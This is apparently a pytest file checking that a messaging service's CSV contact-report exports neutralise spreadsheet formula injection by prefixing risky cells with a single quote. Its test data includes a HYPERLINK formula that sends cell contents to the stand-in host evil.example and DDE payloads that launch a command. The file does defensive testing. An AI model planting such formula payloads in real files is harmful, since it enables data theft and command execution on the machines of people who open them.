"""CSV formula injection: contact fields that a spreadsheet would run as formulas leave the
report export as text (a leading single quote, OWASP's rule), through the API's export and
the dashboard's, after a real broadcast by the worker."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx

from hushcast.core.csvsafe import FORMULA_STARTS, safe_cell
from tests.support.live import broadcast_done, connect_bot, create_message
from tests.support.service import LiveService
from tests.support.waiting import wait_for

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_inert(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                assert re.fullmatch(r"[+-]?[0-9]+", cell), (name, cell)


def test_formula_cells_are_neutralised_in_every_export(
    live: LiveService, fake_telegram: Any, api_key: str
) -> None:
    http = live.http
    app_uuid = connect_bot(live, fake_telegram)
    chats = [str(7_100_000 + i) for i in range(len(EVIL))]
    items = [{"token": c, "externalCustomerId": e} for c, e in zip(chats, EVIL, strict=True)]
    r = http.post(f"/v1/apps/{app_uuid}/tokens", json={"tokens": items})
    assert r.status_code == 200, r.text
    message = create_message(http, "Hello")
    r = http.post("/v1/broadcast", json={"messageId": message, "appId": app_uuid})
    assert r.status_code == 200, r.text
    broadcast = int(r.json()["broadcastId"])
    wait_for(lambda: broadcast_done(http, broadcast), timeout=60)

    # The JSON report keeps the value as stored; only the CSV neutralises it.
    r = http.get(f"/v1/broadcast/{broadcast}/report/contacts", params={"bucket": "all"})
    stored = {i["token"]: i["externalCustomerId"] for i in r.json()}
    assert stored[chats[0]] == HYPERLINK

    r = http.get(
        f"/v1/broadcast/{broadcast}/report/contacts", params={"bucket": "all", "format": "csv"}
    )
    assert r.status_code == 200, r.text
    api_rows = _cells(r.text)
    by_token = {row["token"]: row["externalCustomerId"] for row in api_rows}
    assert by_token[chats[0]] == "'" + HYPERLINK
    for chat, evil in zip(chats, EVIL, strict=True):
        assert by_token[chat] == "'" + stored[chat], (evil, by_token[chat])
    _assert_inert(api_rows)

    # The dashboard's export is the same file.
    ui = httpx.Client(base_url=live.base_url)
    page = ui.get("/ui/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert csrf
    r = ui.post("/ui/login", data={"api_key": api_key, "csrf_token": csrf.group(1)})
    assert r.status_code in (200, 303), r.text
    r = ui.get(f"/ui/broadcasts/{broadcast}/export.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert _cells(r.text) == api_rows
    ui.close()


def test_the_rule_itself() -> None:
    for value in ("=1", "+1+1", "-1+1", "@x", "\t=1", "\r=1", "=", "-", "+", "@"):
        assert safe_cell(value) == "'" + value
    # Plain numbers are not formulas (a supergroup's chat id stays a chat id), and text
    # that does not start with a formula character is untouched.
    for value in ("-1001234567890", "+15551234", "-1.5", "1=1", "a@b.c", " =1", "", "'=1"):
        assert safe_cell(value) == value
    for value in (None, 5, -5, 1.5):
        assert safe_cell(value) == value
    # Unicode digits are not plain numbers.
    assert safe_cell("-١٢") == "'-١٢"
